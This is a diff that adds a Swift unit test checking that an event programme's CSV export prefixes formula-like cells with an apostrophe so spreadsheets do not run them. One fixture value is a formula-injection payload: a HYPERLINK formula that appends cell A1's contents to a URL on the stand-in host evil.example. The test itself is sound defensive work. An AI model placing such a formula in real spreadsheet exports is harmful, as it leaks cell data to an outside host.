@@ -48,6 +48,23 @@ struct ProgrammeTests {
         #expect(md.contains("- Kimura Daiki"))
     }
 
+    /// Cells a spreadsheet would run as formulas (`=`, `+`, `-`, `@` first) start with `'` instead.
+    @Test func csvNeutralisesCellsASpreadsheetWouldRun() {
+        var event = Forum.event
+        event.sessions[0].title = LocalizedText(en: "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")
+        event.sessions[0].description = LocalizedText(en: "@cmd")
+        event.rooms[1].name = LocalizedText(en: "-Room B")
+        event.stakeholders[1].name = "+Sophie Martin"
+        let csv = ProgrammeText.csv(Programme(Publication(event: event, removed: [], history: [Forum.first]), language: .en))
+        let rows = csv.components(separatedBy: "\r\n")
+        let opening = rows.first { $0.contains(",opening,") } ?? ""
+        #expect(opening.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\","))
+        #expect(opening.contains(",'@cmd,"))
+        #expect(rows.contains { $0.contains(",'-Room B,industry,") })
+        #expect(opening.contains(",\"A patient organization representative; +Sophie Martin (Valmont"), "only a cell's first character counts")
+        #expect(!csv.contains(",=") && !csv.contains(",@") && !csv.contains(",-") && !csv.contains(",+"))
+    }
+
     @Test func gridPlacesSessionsInRoomColumnsAndSlotRows() throws {
         let p = Programme(Forum.publication())
         let day = try #require(p.days.first)
